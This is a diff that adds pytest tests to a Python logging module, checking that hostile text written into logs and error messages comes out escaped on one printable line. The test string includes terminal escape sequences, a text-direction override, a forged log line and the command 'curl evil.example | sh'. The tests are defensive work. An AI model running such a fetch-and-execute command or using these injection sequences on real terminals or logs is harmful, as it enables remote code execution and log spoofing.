@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import logging
+import pickle
 from collections.abc import Callable
 from contextlib import AbstractContextManager
 from pathlib import Path
@@ -47,3 +48,29 @@ def test_a_line_every_five_seconds_and_one_at_the_end(caplog: pytest.LogCaptureF
             progress.update([outcome])
     done = [record.getMessage().split()[0] for record in caplog.records]
     assert done == ["5", "10", "12"]
+
+
+HOSTILE = "TMC 1A\x1b]0;owned\x07\x1b[2J\x9b\u202e\u2028\ncurl evil.example | sh\n2026-11-28 INFO all is well"
+
+
+def test_what_a_stranger_writes_begins_no_line_and_moves_no_terminal(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    logger = logging.getLogger("feii_dask")
+    monkeypatch.setattr(logger, "hasHandlers", lambda: False)
+    with run_log(tmp_path):
+        logger.info("a cube is called %s, of %d", HOSTILE, 7)
+        logger.warning("%s\n%s", "two lines", "of ours")
+    printed, written = capsys.readouterr().out, (tmp_path / "log.txt").read_text()
+    for text in (printed, written):
+        assert all(line.isprintable() for line in text.split("\n"))
+        assert len(text.splitlines()) == 3
+        assert r"TMC 1A\x1b]0;owned\x07\x1b[2J\x9b\u202e\u2028\ncurl" in text
+    assert all(line[:2] in ("20", "of") for line in written.splitlines())
+
+
+def test_an_error_holds_no_control_characters_and_one_line(tmp_path: Path) -> None:
+    error = pickle.loads(pickle.dumps(StoreError(f"cannot write {HOSTILE}", "do this")))
+    first, second = str(error).split("\n")
+    assert first.isprintable()
+    assert second == "do this"
